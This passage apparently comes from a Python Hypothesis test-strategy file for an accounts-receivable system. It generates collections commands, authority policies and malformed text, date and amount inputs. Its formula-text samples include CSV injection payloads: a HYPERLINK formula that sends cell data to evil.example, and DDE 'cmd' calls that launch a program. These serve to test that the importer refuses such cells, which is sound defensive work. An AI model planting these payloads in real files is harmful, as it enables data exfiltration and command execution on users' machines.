                    draw(rarely_bad(st.sampled_from((100, 200, 300, 400)), bad_amounts)),
                    draw(command_currencies),
                ),
                "appraiser": draw(approvers),
                "proposed_on": draw(window_dates),
            },
        )
    if kind == "approve":
        return Command(
            "approve_goods_in_lieu",
            {
                "customer_code": customer_code,
                "settlement_reference": reference,
                "approver": draw(approvers),
                "reason": draw(reasons),
                "approved_on": draw(window_dates),
            },
        )
    numbers = draw(st.lists(invoice_numbers, min_size=1, max_size=2, unique=True))
    total = draw(st.sampled_from((70, 140, 210, 280)))
    first = total if len(numbers) == 1 else draw(st.integers(1, total - 1))
    amounts = [first, total - first][: len(numbers)]
    currency = draw(command_currencies)
    return Command(
        "settle_goods_in_lieu",
        {
            "customer_code": customer_code,
            "settlement_reference": reference,
            "allocations": {
                number: Money(amount, currency)
                for number, amount in zip(numbers, amounts, strict=True)
            },
            "settled_on": draw(window_dates),
        },
    )


# Collections commands: disputes, promises, ratings, the blacklist, actions, credit lines,
# owners and supply holds, over the same pools, so they meet the invoices and payments above.
DISPUTE_REFERENCES: Final = ("D-1", "D-2")
PROMISE_REFERENCES: Final = ("P-1", "P-2")
dispute_references = st.sampled_from(DISPUTE_REFERENCES)
request_references = st.sampled_from(("R-1", "R-2"))


def _command_authority(version: int, limit_minor: int) -> AuthorityPolicy:
    """A policy over the command pools' approvers and currencies: the sales director's limit
    is ``limit_minor`` (some commands' amounts are over it), the cfo's has no end, and above
    half the limit a second approver is needed."""
    return AuthorityPolicy(
        version=version,
        approvers=(
            ApproverRole(approver="cfo", role="cfo"),
            ApproverRole(approver="sales director", role="sales"),
        ),
        roles=tuple(
            limit
            for currency in ("USD", "JPY", "KWD")
            for limit in (
                RoleAuthority(
                    role="cfo",
                    currency=currency,
                    reduction_max_minor=AMOUNT_MINOR_MAX,
                    customer_period_max_minor=AMOUNT_MINOR_MAX,
                ),
                RoleAuthority(
                    role="sales",
                    currency=currency,
                    reduction_max_minor=limit_minor,
                    customer_period_max_minor=2 * limit_minor,
                    two_approvers_above_minor=limit_minor // 2,
                    postponement_days_max=30,
                ),
            )
        ),
    )


COMMAND_AUTHORITY_POLICIES: Final = (_command_authority(1, 600), _command_authority(2, 900))
promise_references = st.sampled_from(PROMISE_REFERENCES)


def _command(name: str, **fields: st.SearchStrategy[Any]) -> st.SearchStrategy[Command]:
    return st.fixed_dictionaries(fields).map(lambda drawn: Command(name, drawn))


collections_commands = st.one_of(
    _command(
        "open_dispute",
        invoice_number=invoice_numbers,
        dispute_reference=dispute_references,
        amount=command_moneys(),
        reason_code=st.sampled_from(DisputeReason),
        root_cause=st.just("damaged"),
        opened_on=window_dates,
    ),
    _command(
        "resolve_dispute",
        invoice_number=invoice_numbers,
        dispute_reference=dispute_references,
        outcome=st.sampled_from(DisputeOutcome),
        resolved_on=window_dates,
        note=st.just("inspected"),
        approver=approvers,
    ),
    _command(
        "make_promise",
        customer_code=customer_codes,
        promise_reference=promise_references,
        amount=command_moneys(),
        promised_on=window_dates,
        made_on=window_dates,
        contact=st.just("AP"),
        invoice_numbers=st.lists(invoice_numbers, max_size=2, unique=True).map(tuple),
        supersedes=st.none() | promise_references,
    ),
    _command(
        "withdraw_promise",
        promise_reference=promise_references,
        withdrawn_on=window_dates,
        reason=reasons,
    ),
    _command(
        "rate_risk",
        customer_code=customer_codes,
        rating=st.sampled_from(RiskRating),
        rated_on=window_dates,
        reason=reasons,
    ),
    _command(
        "blacklist", customer_code=customer_codes, blacklisted_on=window_dates, reason=reasons
    ),
    _command(
        "clear_blacklist", customer_code=customer_codes, cleared_on=window_dates, reason=reasons
    ),
    _command(
        "record_action",
        customer_code=customer_codes,
        channel=st.sampled_from(ActionChannel),
        taken_on=window_dates,
        collector=st.just("li"),
        contact=st.just("AP"),
        outcome=st.just("called"),
    ),
    _command(
        "set_credit_line",
        customer_code=customer_codes,
        amount=command_moneys(),
        effective_on=window_dates,
        approver=approvers,
        reason=reasons,
    ),
    _command(
        "change_owner",
        customer_code=customer_codes,
        collection_owner=st.sampled_from(("li", "wang")),
        changed_on=window_dates,
    ),
    _command(
        "adopt_allocation_rule",
        customer_code=customer_codes,
        rule=st.sampled_from(AllocationRule),
        effective_on=window_dates,
        approver=approvers,
        reason=reasons,
    ),
    _command(
        "adopt_authority_policy",
        policy=st.sampled_from(COMMAND_AUTHORITY_POLICIES),
        effective_on=window_dates,
        approver=approvers,
        reason=reasons,
    ),
    _command(
        "request_reduction",
        request_reference=request_references,
        kind=st.sampled_from(ReductionKind),
        invoice_number=invoice_numbers,
        amount=st.none() | command_moneys(),
        credit_note_number=st.none() | st.sampled_from(CREDIT_NOTE_NUMBERS),
        due_on=st.none() | window_dates,
        reduce_on=window_dates,
        reason=reasons,
        requested_by=st.just("li"),
        requested_on=window_dates,
    ),
    _command(
        "override_due_date",
        invoice_number=invoice_numbers,
        due_on=window_dates,
        overridden_on=window_dates,
        reason=reasons,
        approver=approvers,
    ),
    _command(
        "approve_reduction",
        request_reference=request_references,
        approver=approvers,
        approved_on=window_dates,
    ),
    _command(
        "reject_reduction",
        request_reference=request_references,
        rejected_by=approvers,
        rejected_on=window_dates,
        reason=reasons,
    ),
    _command("hold_supply", customer_code=customer_codes, held_on=window_dates, reason=reasons),
    _command(
        "release_supply", customer_code=customer_codes, released_on=window_dates, reason=reasons
    ),
)

any_commands = st.one_of(
    collections_commands,
    issue_invoice_commands(),
    receive_payment_commands(),
    allocate_commands(),
    allocate_commands(),
    allocate_commands(),
    reverse_payment_commands(),
    credit_note_commands(),
    concession_commands(),
    goods_in_lieu_commands(),
    goods_in_lieu_commands(),
    write_off_commands(),
    reinstate_commands(),
    open_account_commands(),
)

COMMANDS_MAX: Final = 25


@st.composite
def command_sequences(draw: st.DrawFn, *, length_max: int = COMMANDS_MAX) -> list[Command]:
    """Every account, invoice and payment of the pools first, then anything.

    The set-up commands are drawn like the rest, so some of them are refused too.
    """
    opens = [draw(open_account_commands(code)) for code in CUSTOMER_CODES]
    issues = [draw(issue_invoice_commands(number)) for number in INVOICE_NUMBERS]
    receipts = [draw(receive_payment_commands(reference)) for reference in BANK_REFERENCES]
    prefix = [*opens, *issues, *receipts]
    room = length_max - len(prefix)
    rest = draw(st.lists(any_commands, min_size=min(room, 6), max_size=room))
    # Retries: a keyed allocation sent again later (the same content, or another under its key).
    for command in list(rest):
        if len(rest) >= room:
            break
        if command.name == "allocate_payment" and "allocation_key" in command.fields:
            retry = command
            if draw(st.booleans()):
                retry = Command(command.name, {**command.fields, "allocated_on": None})
            rest.insert(draw(st.integers(rest.index(command) + 1, len(rest))), retry)
    sequence = prefix + rest
    assert len(sequence) <= length_max
    return sequence


# Bad text, dates and amounts (issue 9.11, 9.13, 9.14) -------------------------------------------
# What the domain refuses (domain/text.py, rules.DATE_MIN..DATE_MAX, money.parse_amount), drawn
# from the classes of characters and forms the rules name, each hidden inside otherwise good
# input. Kept apart from the importer's strategies above: these feed commands and queries.

lone_surrogates = st.characters(categories=["Cs"])
"""What Python makes of bytes that are not UTF-8 (surrogateescape) or of half an escaped pair."""
control_characters = st.characters(categories=["Cc"])
"""C0 and C1 controls and DEL: tab, newline and carriage return among them."""
line_separators = st.sampled_from(["\u2028", "\u2029"])
direction_controls = st.sampled_from(
    sorted("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
)
invisible_characters = st.one_of(
    st.sampled_from(["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e"]),
    st.characters(categories=["Cf", "Co", "Zl", "Zp"]),
    st.characters(categories=["Zs"]).filter(lambda c: c != " "),  # no-break, ideographic, ...
)
"""Characters a key may not hold although a name may (but for the separators): they print as
nothing, or as a space, so two keys differing only by them print the same."""

good_key_parts = st.text(
    alphabet=string.ascii_uppercase + string.digits + "-", min_size=1, max_size=8
)


@st.composite
def text_around(draw: st.DrawFn, bad: st.SearchStrategy[str]) -> str:
    """A short key-like text with one ``bad`` character inside it (never at an end, so the
    text is not refused only for being padded or blank)."""
    return draw(good_key_parts) + draw(bad) + draw(good_key_parts)


def decomposed_keys() -> st.SearchStrategy[str]:
    """A key with a letter and its combining accent as two characters (not NFC)."""
    return st.tuples(
        good_key_parts,
        st.sampled_from(["E\u0301", "U\u0308", "A\u030a", "C\u0327", "N\u0303"]),
        good_key_parts,
    ).map("".join)


bad_keys = st.one_of(
    text_around(lone_surrogates),
    text_around(control_characters),
    text_around(line_separators | direction_controls),
    text_around(invisible_characters),
    decomposed_keys(),
)
"""Keys (codes, numbers, references, owners, collectors, approvers) the domain refuses."""
bad_names = st.one_of(
    text_around(lone_surrogates),
    text_around(control_characters),
    text_around(line_separators | direction_controls),
)
"""Single-line text (names, contacts, phones) the domain refuses."""
bad_notes = st.one_of(
    text_around(lone_surrogates),
    text_around(control_characters.filter(lambda c: c != "\n")),
    text_around(line_separators | direction_controls),
)
"""Multi-line text (reasons, notes, outcomes) the domain refuses: a newline alone is allowed."""

dates_outside_range = st.one_of(
    st.dates(max_value=RULES_DATE_MIN - timedelta(days=1)),
    st.dates(min_value=RULES_DATE_MAX + timedelta(days=1)),
    st.sampled_from([date(1, 1, 1), date(9999, 12, 31)]),
)
"""Business dates outside rules.DATE_MIN..DATE_MAX: refused by every command and query."""

other_script_digits = st.characters(categories=["Nd"]).filter(lambda c: not c.isascii())


@st.composite
def bad_amount_texts(draw: st.DrawFn) -> str:
    """A well-formed amount ("1,234.50") spoiled in one way Decimal() or int() would forgive."""
    units = draw(st.integers(1, 10**9))
    cents = draw(st.integers(0, 99))
    plain = f"{units}.{cents:02d}"
    spoil = draw(st.sampled_from(["underscore", "digit", "space", "special", "exponent", "sign"]))
    if spoil == "underscore":  # "1_000.00": int() and Decimal() drop the underscore
        digits = str(units)
        if len(digits) < 2:
            digits = "1" + digits
        at = draw(st.integers(1, len(digits) - 1))
        return f"{digits[:at]}_{digits[at:]}.{cents:02d}"
    if spoil == "digit":  # "１２.00", "١٢": another script's digit for one of ours
        at = draw(st.integers(0, len(plain) - 1).filter(lambda i: plain[i].isdigit()))
        return plain[:at] + draw(other_script_digits) + plain[at + 1 :]
    if spoil == "space":  # "1 000.00", "1\u00a0000.00": a space inside the figure
        digits = "1" + str(units)
        at = draw(st.integers(1, len(digits) - 1))
        space = draw(st.characters(categories=["Zs"]) | st.sampled_from(["\t", "\u200b"]))
        return f"{digits[:at]}{space}{digits[at:]}.{cents:02d}"
    if spoil == "special":  # what Decimal() reads as a number that is none
        sign = draw(st.sampled_from(["", "-", "+"]))
        return sign + draw(st.sampled_from(["NaN", "nan", "sNaN", "Infinity", "inf", "INF"]))
    if spoil == "exponent":  # a figure a spreadsheet has already rounded
        return plain + draw(st.sampled_from(["e3", "E+2", "e-1", "E0"]))
    return draw(st.sampled_from(["+-", "-+", "--", "++"])) + plain


# Import files and CSV outputs (issue 9: items 2, 13 and 16) -----------------------------------
# Kept apart from the other bad-input strategies: what a CSV cell, row or header can be that an
# import must refuse, and text a spreadsheet would evaluate.

FORMULA_STARTS_TEXT: Final = "=+-@\t\r"
"""The first characters that make a spreadsheet evaluate a cell (OWASP)."""

csv_texts = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30
)
"""Any text a CSV cell can hold (no lone surrogates, no NUL)."""

formula_texts = st.builds(
    lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS_TEXT), csv_texts
) | st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "-12.00",  # a plain number: left as it is
        "-1.5E+3",
    ]
)
"""Text beginning as a formula would (and a few plain numbers, which are not formulas)."""

non_ascii_digits = st.characters(categories=["Nd", "No"]).filter(
    lambda character: character.isdigit() and not character.isascii()
)
"""Characters ``str.isdigit`` calls digits that are not 0-9: other scripts' digits (which
``int`` reads), superscripts and circled digits (which it cannot)."""


@st.composite
def non_ascii_digit_texts(draw: st.DrawFn, length_max: int = 3) -> str:
    """A number of days with at least one digit other than 0-9 among ASCII ones."""
    digits = draw(st.lists(st.sampled_from(string.digits), max_size=length_max - 1))
    digits.insert(draw(st.integers(0, len(digits))), draw(non_ascii_digits))
    return "".join(digits)


@st.composite
def cell_count_changes(draw: st.DrawFn, columns: int) -> int:
    """How many cells to add to (positive) or take from (negative) a row of ``columns``; never
    zero, and never all of them (a row of no cells is a blank line)."""
    return draw(st.integers(-(columns - 1), 3).filter(lambda change: change != 0))


@st.composite
def repeated_column_names(draw: st.DrawFn, header: list[str]) -> list[str]:
    """``header`` with one column named like another (maybe padded with spaces, which the
    importer strips)."""
    first, second = sorted(
        draw(st.lists(st.sampled_from(range(len(header))), min_size=2, max_size=2, unique=True))
    )
    renamed = list(header)
    renamed[second] = draw(st.sampled_from(["", " ", "  "])) + header[first]
    return renamed
